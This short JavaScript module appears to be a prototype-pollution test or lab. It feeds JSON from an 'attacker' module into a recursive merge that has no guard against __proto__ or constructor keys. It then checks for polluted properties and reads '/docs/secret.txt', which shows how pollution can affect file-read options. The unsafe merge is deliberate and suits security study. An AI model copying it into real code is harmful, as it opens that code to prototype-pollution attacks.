import fs from 'runtime:fs';
import { json } from './attacker.mjs';
// As a hundred packages did it.
function merge(target, source) {
  for (const key in source) {
    if (typeof source[key] === 'object' && typeof target[key] === 'object') merge(target[key], source[key]);
    else if (typeof source[key] === 'object' && typeof target[key] === 'function') merge(target[key], source[key]);
    else target[key] = source[key];
  }
  return target;
}
export function work() {
  try {
    merge({ list: [] }, JSON.parse(json));
    console.log('merged');
  } catch (error) {
    console.log(error.name);
  }
  console.log(({}).admin, ({}).encoding, ({}).recursive, (() => {}).flag);
  return fs.readFileSync('/docs/secret.txt', 'utf8') + ' ' + fs.readFileSync('/docs/secret.txt', {}).length;
}
